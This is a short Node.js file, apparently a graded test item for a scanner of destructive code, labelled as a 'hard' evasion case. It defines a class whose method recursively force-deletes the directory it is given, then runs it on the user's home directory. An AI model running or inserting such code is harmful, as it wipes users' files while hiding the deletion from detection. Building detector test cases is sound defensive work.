// evasion: a class expression bound to a name; its constructor's first parameter ($HOME at the new) is swept recursively by a method
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const Sweeper = class {
  constructor(root, keep) { this.root = root; this.keep = keep; }
  sweep() { fs.rmSync(this.root, { recursive: true, force: true }); }
};
new Sweeper(process.env.HOME, []).sweep();
